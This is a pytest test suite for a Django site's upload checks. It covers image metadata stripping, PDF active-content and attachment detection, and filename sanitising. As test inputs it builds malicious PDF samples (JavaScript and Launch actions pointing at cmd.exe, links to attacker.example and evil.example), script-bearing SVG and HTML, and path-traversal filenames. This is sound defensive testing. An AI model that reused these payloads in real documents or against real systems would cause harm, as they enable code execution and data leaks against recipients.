import io
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from community.uploads import (
    EVIDENCE_MAX_BYTES,
    IMAGE_MAX_BYTES,
    check_evidence,
    check_image,
    safe_filename,
)

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def image_bytes(image_format="PNG", size=(40, 30), mode="RGB", **save_options) -> bytes:
    output = io.BytesIO()
    Image.new(mode, size, "orange").save(output, format=image_format, **save_options)
    return output.getvalue()


def jpeg_with_gps(size=(40, 30), orientation=None) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    if orientation:
        exif[ORIENTATION] = orientation
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "S"
    gps[2] = (6.0, 10.0, 30.0)
    gps[3] = "E"
    gps[4] = (106.0, 49.0, 12.0)
    return image_bytes("JPEG", size=size, exif=exif)


def decompression_bomb() -> bytes:
    """A tiny PNG that declares 400 megapixels."""
    return image_bytes("PNG", size=(20000, 20000), mode="1")


FIRST_PAGE = object()


def pdf_object(value, writer):
    """A pypdf object from plain Python: "/Name" is a name, other text a string."""
    if value is FIRST_PAGE:
        return writer.pages[0].indirect_reference
    if isinstance(value, dict):
        return DictionaryObject({NameObject(k): pdf_object(v, writer) for k, v in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf_object(v, writer) for v in value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, int):
        return NumberObject(value)
    return value


def pdf_bytes(*changes) -> bytes:
    """A one-page PDF written by pypdf, after each ``change(writer)``."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    for change in changes:
        change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def set_in_catalog(key, value):
    def change(writer):
        writer.root_object[NameObject(key)] = pdf_object(value, writer)

    return change


def set_on_page(key, value):
    def change(writer):
        writer.pages[0][NameObject(key)] = pdf_object(value, writer)

    return change


def add_annotation(annotation):
    def change(writer):
        writer.add_annotation(
            0, pdf_object({"/Type": "/Annot", "/Rect": [10, 10, 90, 40]} | annotation, writer)
        )

    return change


def link(action):
    return add_annotation({"/Subtype": "/Link", "/A": action})


JAVASCRIPT = {"/S": "/JavaScript", "/JS": "app.launchURL('https://evil.example/', true);"}
LAUNCH = {"/S": "/Launch", "/F": "C:\\Windows\\System32\\cmd.exe"}


def encrypted(user_password):
    def change(writer):
        writer.encrypt(user_password=user_password, owner_password="pemilik")

    return change


def form_field(**entries):
    """A form field with its widget annotation on the first page, listed in the /AcroForm."""

    def change(writer):
        widget = writer.add_annotation(
            0,
            pdf_object(
                {"/Type": "/Annot", "/Subtype": "/Widget", "/Rect": [10, 10, 90, 40]} | entries,
                writer,
            ),
        )
        writer.root_object[NameObject("/AcroForm")] = pdf_object(
            {"/Fields": [widget.indirect_reference]}, writer
        )

    return change


def embedded_file(writer):
    writer.add_attachment("gaji.xlsm", b"PK\x03\x04 a spreadsheet with macros")


PAGE_TREE = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
    b"<< /Type /Annot /Subtype /Link /Rect [10 10 90 40] /A 5 0 R >>",
]


def classic_pdf(objects, listed=None) -> bytes:
    """A PDF 1.4 written by hand: objects 1, 2... (1 is the catalog) and a cross-reference table
    that lists the first ``listed`` of them (all by default)."""
    listed = len(objects) if listed is None else listed
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (listed + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets[:listed])
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (listed + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def object_stream_pdf(objects) -> bytes:
    """A PDF 1.5 written by hand: objects 1, 2... packed in one compressed object stream, found
    through a cross-reference stream, as modern producers write them (pypdf cannot write these)."""
    count = len(objects)
    index, body = [], b""
    for number, obj in enumerate(objects, start=1):
        index.append(b"%d %d" % (number, len(body)))
        body += obj + b"\n"
    index = b" ".join(index) + b"\n"
    packed = zlib.compress(index + body)
    stream_number, xref_number = count + 1, count + 2
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    stream_offset = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        count,
        len(index),
        len(packed),
    )
    out += b"stream\n" + packed + b"\nendstream\nendobj\n"
    xref_offset = len(out)

    def row(kind, field, number):
        return bytes([kind]) + field.to_bytes(4, "big") + number.to_bytes(2, "big")

    rows = [row(0, 0, 65535)]
    rows += [row(2, stream_number, position) for position in range(count)]
    rows += [row(1, stream_offset, 0), row(1, xref_offset, 0)]
    table = b"".join(rows)
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n" % (
        xref_number,
        count + 3,
        len(table),
    )
    out += b"stream\n" + table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def pdf_refusal(content, name="bukti.pdf") -> ValidationError:
    with pytest.raises(ValidationError) as error:
        check_evidence(upload(name, content, "application/pdf"))
    return error.value


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def messages(error: ValidationError) -> str:
    return " ".join(error.messages)


@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP"])
def test_check_image__accepted_formats__reencoded_with_real_extension(image_format):
    checked = check_image(upload("holiday.bin", image_bytes(image_format)))
    extension = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp"}[image_format]
    assert checked.name == f"holiday.{extension}"
    assert Image.open(io.BytesIO(checked.content)).format == image_format


def test_check_image__gps_exif__stored_bytes_have_no_gps_and_no_exif():
    checked = check_image(upload("toko.jpg", jpeg_with_gps(), "image/jpeg"))
    stored = Image.open(io.BytesIO(checked.content))
    assert stored.getexif().get_ifd(GPS_IFD) == {}
    assert len(stored.getexif()) == 0
    assert "exif" not in stored.info
    assert b"PhoneMaker" not in checked.content


def test_check_image__exif_orientation__applied_to_pixels_before_exif_is_dropped():
    checked = check_image(upload("portrait.jpg", jpeg_with_gps(size=(40, 30), orientation=6)))
    stored = Image.open(io.BytesIO(checked.content))
    assert stored.size == (30, 40)
    assert ORIENTATION not in stored.getexif()


def test_check_image__xmp_metadata__dropped():
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>6,10S</exif:GPSLatitude></x:xmpmeta>'
    checked = check_image(upload("x.jpg", image_bytes("JPEG", xmp=xmp)))
    assert b"GPSLatitude" not in checked.content


def test_check_image__non_image_named_jpg__refused_by_content():
    with pytest.raises(ValidationError) as error:
        check_image(upload("photo.jpg", b"MZ\x90\x00\x03 this is a program", "image/jpeg"))
    assert "photo.jpg is not a JPEG, PNG or WebP image" in messages(error.value)


def test_check_image__truncated_jpeg__refused_as_damaged():
    data = image_bytes("JPEG", size=(200, 200))
    with pytest.raises(ValidationError) as error:
        check_image(upload("half.jpg", data[: len(data) // 3]))
    assert error.value.code == "not_an_image"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("anim.gif", image_bytes("GIF")),
        ("scan.bmp", image_bytes("BMP")),
    ],
)
def test_check_image__other_formats__refused(name, content):
    with pytest.raises(ValidationError) as error:
        check_image(upload(name, content))
    assert error.value.code == "not_an_image"


def iso_media(brand: bytes, compatible: bytes | None = None) -> bytes:
    """The start of an ISO media file (HEIC, AVIF, MP4) of this major brand."""
    ftyp = b"ftyp" + brand + b"\x00\x00\x00\x00mif1" + (compatible or brand)
    return (len(ftyp) + 4).to_bytes(4, "big") + ftyp + b"\x00" * 64


@pytest.mark.parametrize(
    ("brand", "compatible"),
    [(b"heic", None), (b"heix", None), (b"hevc", None), (b"mif1", b"heic")],
)
@pytest.mark.parametrize("check", [check_image, check_evidence])
def test_check__heic_photo__refused_saying_what_to_do(check, brand, compatible):
    with pytest.raises(ValidationError) as error:
        check(upload("IMG_0042.HEIC", iso_media(brand, compatible), "image/heic"))
    assert error.value.code == "heif"
    text = messages(error.value)
    assert "IMG_0042.HEIC is a HEIC or HEIF photo" in text
    assert "Save or export it as a JPEG or PNG" in text


@pytest.mark.parametrize(
    ("brand", "compatible"), [(b"avif", None), (b"mif1", b"avif"), (b"isom", None), (b"mp42", None)]
)
def test_check_image__other_iso_media__refused_as_not_an_image(brand, compatible):
    with pytest.raises(ValidationError) as error:
        check_image(upload("clip.avif", iso_media(brand, compatible)))
    assert error.value.code == "not_an_image"


def test_check_image__heic_over_the_size_limit__refused_for_its_size_first():
    with pytest.raises(ValidationError) as error:
        check_image(upload("big.heic", iso_media(b"heic") + b"\0" * IMAGE_MAX_BYTES))
    assert error.value.code == "file_too_big"


def test_check_image__decompression_bomb__refused_without_decoding():
    bomb = decompression_bomb()
    assert len(bomb) < 100_000
    with pytest.raises(ValidationError) as error:
        check_image(upload("bomb.png", bomb, "image/png"))
    assert error.value.code == "too_many_pixels"
    assert "40 megapixels" in messages(error.value)


def test_check_image__over_pixel_limit_below_pillow_warning__refused():
    with pytest.raises(ValidationError) as error:
        check_image(upload("wide.png", image_bytes("PNG", size=(8000, 5001), mode="1")))
    assert error.value.code == "too_many_pixels"


def test_check_image__over_size_limit__refused_with_the_limit_in_the_message():
    big = upload("big.png", b"\x89PNG" + b"\0" * IMAGE_MAX_BYTES)
    with pytest.raises(ValidationError) as error:
        check_image(big)
    assert error.value.code == "file_too_big"
    assert "larger than 10 MB" in messages(error.value)


def test_check_image__empty_file__refused():
    with pytest.raises(ValidationError) as error:
        check_image(upload("empty.png", b""))
    assert error.value.code == "file_empty"


def test_check_evidence__pdf__kept_byte_for_byte_with_sniffed_type():
    pdf = pdf_bytes()
    checked = check_evidence(upload("rekening koran.exe", pdf, "application/x-msdownload"))
    assert checked.content == pdf
    assert checked.content_type == "application/pdf"
    assert checked.name == "rekening-koran.pdf"


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(link({"/S": "/URI", "/URI": "https://bank.example/cek"}), id="web-link"),
        pytest.param(link({"/S": "/URI", "/URI": "mailto:cs@bank.example"}), id="mail-link"),
        pytest.param(link({"/S": "/GoTo", "/D": [FIRST_PAGE, "/Fit"]}), id="goto-link"),
        pytest.param(set_in_catalog("/OpenAction", [FIRST_PAGE, "/Fit"]), id="open-at-destination"),
        pytest.param(
            set_in_catalog("/OpenAction", {"/S": "/GoTo", "/D": [FIRST_PAGE, "/Fit"]}),
            id="open-goto",
        ),
        pytest.param(
            set_in_catalog("/Outlines", {"/Type": "/Outlines", "/Count": 0}), id="bookmarks"
        ),
        pytest.param(
            form_field(**{"/FT": "/Tx", "/T": "nama", "/V": "Sari"}), id="plain-form-field"
        ),
    ],
)
def test_check_evidence__pdf_with_links_bookmarks_and_plain_forms__accepted(change):
    pdf = pdf_bytes(change)
    assert check_evidence(upload("rekening.pdf", pdf)).content == pdf


@pytest.mark.parametrize("user_password", ["", "rahasia"])
def test_check_evidence__encrypted_pdf__refused_even_without_a_user_password(user_password):
    error = pdf_refusal(pdf_bytes(encrypted(user_password)), name="slip-gaji.pdf")
    assert error.code == "pdf_encrypted"
    assert "slip-gaji.pdf is protected with a password" in messages(error)
    assert "print it to a new PDF without the password" in messages(error)


def test_check_evidence__pdf_encrypted_with_a_handler_pypdf_cannot_open__refused_as_encrypted():
    """pypdf cannot even open it (only the standard handler is built in): still "encrypted"."""
    pdf = pdf_bytes(encrypted("")).replace(b"/Filter /Standard", b"/Filter /PubSecAA")
    assert pdf_refusal(pdf).code == "pdf_encrypted"


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(
            set_in_catalog("/Names", {"/JavaScript": {"/Names": ["init", JAVASCRIPT]}}),
            id="document-javascript-in-names-tree",
        ),
        pytest.param(set_in_catalog("/OpenAction", JAVASCRIPT), id="open-action-javascript"),
        pytest.param(set_in_catalog("/OpenAction", LAUNCH), id="open-action-launch"),
        pytest.param(
            set_in_catalog("/OpenAction", {"/S": "/URI", "/URI": "https://tracker.example/opened"}),
            id="open-action-opens-a-web-page",
        ),
        pytest.param(
            set_in_catalog(
                "/OpenAction",
                {"/S": "/GoTo", "/D": [FIRST_PAGE, "/Fit"], "/Next": LAUNCH},
            ),
            id="open-action-goto-then-launch",
        ),
        pytest.param(
            set_in_catalog("/AA", {"/WC": {"/S": "/Named", "/N": "/Print"}}),
            id="document-additional-action",
        ),
        pytest.param(
            set_on_page("/AA", {"/O": {"/S": "/URI", "/URI": "https://tracker.example/"}}),
            id="page-additional-action",
        ),
        pytest.param(link(LAUNCH), id="link-launch"),
        pytest.param(
            link(
                {
                    "/S": "/GoToR",
                    "/F": "\\\\attacker.example\\share\\a.pdf",
                    "/D": [FIRST_PAGE, "/Fit"],
                }
            ),
            id="link-to-remote-file",
        ),
        pytest.param(
            link({"/S": "/URI", "/URI": "file:///C:/Windows/System32/calc.exe"}), id="link-file-uri"
        ),
        pytest.param(
            link({"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://evil.example/"}}),
            id="link-submit-form",
        ),
        pytest.param(link({"/S": "/ImportData", "/F": "data.fdf"}), id="link-import-data"),
        pytest.param(
            link({"/S": "/GoTo", "/D": [FIRST_PAGE, "/Fit"], "/Next": [LAUNCH]}),
            id="link-next-launch",
        ),
        pytest.param(
            add_annotation({"/Subtype": "/Link", "/AA": {"/E": JAVASCRIPT}}), id="link-mouse-enter"
        ),
        pytest.param(
            form_field(**{"/FT": "/Btn", "/T": "kirim", "/A": JAVASCRIPT}), id="widget-javascript"
        ),
        pytest.param(
            add_annotation({"/Subtype": "/Screen", "/A": {"/S": "/Rendition", "/OP": 0}}),
            id="screen-rendition",
        ),
        pytest.param(
            add_annotation({"/Subtype": "/RichMedia", "/RichMediaContent": {}}), id="rich-media"
        ),
        pytest.param(
            set_in_catalog("/AcroForm", {"/Fields": [], "/XFA": ["template", "<xdp/>"]}),
            id="xfa-form",
        ),
    ],
)
def test_check_evidence__pdf_with_active_content__refused(change):
    error = pdf_refusal(pdf_bytes(change))
    assert error.code == "pdf_active_content"
    assert "bukti.pdf contains scripts" in messages(error)
    assert "save it again without forms or scripts" in messages(error)


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(embedded_file, id="embedded-files-name-tree"),
        pytest.param(
            add_annotation(
                {
                    "/Subtype": "/FileAttachment",
                    "/FS": {"/Type": "/Filespec", "/F": "gaji.exe"},
                }
            ),
            id="file-attachment-annotation",
        ),
    ],
)
def test_check_evidence__pdf_with_attached_files__refused(change):
    error = pdf_refusal(pdf_bytes(change))
    assert error.code == "pdf_attachment"
    assert "upload the attached documents as separate files" in messages(error)


def test_check_evidence__objects_in_an_object_stream__read_and_accepted_when_clean():
    pdf = object_stream_pdf([*PAGE_TREE, b"<< /S /URI /URI (https://bank.example/) >>"])
    assert len(PdfReader(io.BytesIO(pdf), strict=True).xref_objStm) == 5
    assert check_evidence(upload("modern.pdf", pdf)).content == pdf


def test_check_evidence__javascript_hidden_in_an_object_stream__refused():
    pdf = object_stream_pdf([*PAGE_TREE, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"])
    assert b"JavaScript" not in pdf  # only visible once the object stream is decompressed
    assert pdf_refusal(pdf).code == "pdf_active_content"


@pytest.mark.parametrize(
    "action",
    [
        pytest.param(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", id="escaped-names"),
        pytest.param(b"<< /Type /Action /S /Launch /F (cmd.exe) >>", id="launch-in-plain-object"),
        pytest.param(b"<< /S /GoToE /T << /R /C /N (a) >> >>", id="go-to-embedded"),
        pytest.param(b"<< /S /RichMediaExecute /TA 6 0 R >>", id="rich-media-execute"),
    ],
)
def test_check_evidence__hand_written_pdf_with_active_content__refused(action):
    assert pdf_refusal(classic_pdf([*PAGE_TREE, action])).code == "pdf_active_content"


def test_check_evidence__launch_in_an_object_the_cross_reference_table_omits__refused():
    """pypdf, like viewers that repair files, finds a referenced object the table does not list."""
    annotation = (
        b"<< /Type /Annot /Subtype /Link /Rect [1 1 9 9] /A << /S /Launch /F (cmd.exe) >> >>"
    )
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>"
    pdf = classic_pdf([*PAGE_TREE[:2], page, annotation], listed=3)
    assert pdf_refusal(pdf).code == "pdf_active_content"


def test_check_evidence__reference_to_an_object_that_is_nowhere__accepted_as_null():
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [9 0 R] >>"
    pdf = classic_pdf([*PAGE_TREE[:2], page])
    assert check_evidence(upload("lama.pdf", pdf)).content == pdf


def test_check_evidence__too_many_objects_the_cross_reference_table_omits__refused(monkeypatch):
    monkeypatch.setattr("community.uploads.PDF_MAX_UNLISTED_OBJECTS", 1)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R 5 0 R] >>"
    link = b"<< /Type /Annot /Subtype /Link /Rect [1 1 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> >>"
    pdf = classic_pdf([*PAGE_TREE[:2], page, link, link], listed=3)
    assert pdf_refusal(pdf).code == "pdf_too_complex"


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"%PDF-1.7\n" + b"\x00garbage\xff" * 100, id="only-the-magic"),
        pytest.param(b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", id="no-xref"),
        pytest.param(pdf_bytes()[:-100], id="truncated-in-the-cross-reference-table"),
        pytest.param(pdf_bytes().replace(b"startxref", b"startxrif"), id="broken-startxref"),
        pytest.param(
            classic_pdf([*PAGE_TREE, b"<< /S /GoTo /S /JavaScript /JS (x) >>"]),
            id="repeated-key-viewers-may-read-differently",
        ),
        pytest.param(
            classic_pdf([*PAGE_TREE, b"<< /S /URI /URI <zz> /Next << /S /Launch >> >>"]),
            id="malformed-entry-hiding-the-rest",
        ),
        pytest.param(
            classic_pdf(
                [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
            ),
            id="no-pages",
        ),
    ],
)
def test_check_evidence__pdf_pypdf_cannot_read__refused_as_damaged(content):
    error = pdf_refusal(content, name="laporan.pdf")
    assert error.code == "pdf_damaged"
    assert "laporan.pdf is damaged or is not a complete PDF" in messages(error)


def test_check_evidence__pdf_with_too_many_objects__refused(monkeypatch):
    monkeypatch.setattr("community.uploads.PDF_MAX_OBJECTS", 4)
    pdf = classic_pdf([*PAGE_TREE, b"<< /S /URI /URI (https://bank.example/) >>"])
    assert pdf_refusal(pdf).code == "pdf_too_complex"


def test_check_evidence__pdf_with_too_many_values__refused(monkeypatch):
    monkeypatch.setattr("community.uploads.PDF_MAX_VALUES", 1000)
    pdf = classic_pdf([*PAGE_TREE, b"[" + b"0 " * 1000 + b"]"])
    assert pdf_refusal(pdf).code == "pdf_too_complex"


def test_check_evidence__pdf_nested_too_deep__refused():
    nested = b"[" * 40 + b"]" * 40
    error = pdf_refusal(classic_pdf([*PAGE_TREE, nested]), name="dalam.pdf")
    assert error.code == "pdf_too_complex"
    assert "dalam.pdf is too complex to check" in messages(error)


def test_check_evidence__pdf_with_too_much_in_object_streams__refused(monkeypatch):
    monkeypatch.setattr("community.uploads.PDF_MAX_OBJECT_STREAM_BYTES", 100)
    pdf = object_stream_pdf([*PAGE_TREE, b"<< /S /URI /URI (https://bank.example/) >>"])
    assert pdf_refusal(pdf).code == "pdf_too_complex"


def test_check_evidence__photo__accepted_and_gps_stripped():
    checked = check_evidence(upload("struk.jpg", jpeg_with_gps()))
    assert checked.content_type == "image/jpeg"
    assert Image.open(io.BytesIO(checked.content)).getexif().get_ifd(GPS_IFD) == {}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"),
        ("invoice.pdf.exe", b"\x7fELF\x02\x01\x01\x00"),
        ("statement.html", b"<!doctype html><html><script>alert(1)</script></html>"),
        ("statement.pdf", b"<html><body>not really a pdf</body></html>"),
        ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"></svg>'),
        ("data.zip", b"PK\x03\x04\x14\x00\x00\x00"),
    ],
)
def test_check_evidence__executables_html_svg_and_archives__refused(name, content):
    with pytest.raises(ValidationError) as error:
        check_evidence(upload(name, content))
    assert error.value.code == "evidence_type"
    assert "Upload a PDF document or a JPEG, PNG or WebP image" in messages(error.value)


def test_check_evidence__over_size_limit__refused():
    with pytest.raises(ValidationError) as error:
        check_evidence(upload("huge.pdf", b"%PDF-1.4\n" + b"0" * EVIDENCE_MAX_BYTES))
    assert error.value.code == "file_too_big"


def test_check_evidence__bomb__refused_as_too_many_pixels():
    with pytest.raises(ValidationError) as error:
        check_evidence(upload("bomb.png", decompression_bomb()))
    assert error.value.code == "too_many_pixels"


@pytest.mark.parametrize(
    ("name", "extension", "expected"),
    [
        ("../../etc/passwd", "pdf", "passwd.pdf"),
        ("C:\\Users\\jane\\Laporan 2025 (final).PDF", "pdf", "Laporan-2025-final.pdf"),
        ("nul\x00byte\x07bell.png", "png", "nul-byte-bell.png"),
        ("\u202egnp.exe", "png", "gnp.png"),
        ("<script>.jpg", "jpg", "script.jpg"),
        ("...", "jpg", "file.jpg"),
        ("", "webp", "file.webp"),
        ("x" * 500 + ".jpg", "jpg", "x" * 80 + ".jpg"),
        ("foto_toko_ibu.jpeg", "jpg", "foto-toko-ibu.jpg"),
    ],
)
def test_safe_filename__strips_paths_and_unsafe_characters(name, extension, expected):
    assert safe_filename(name, extension) == expected
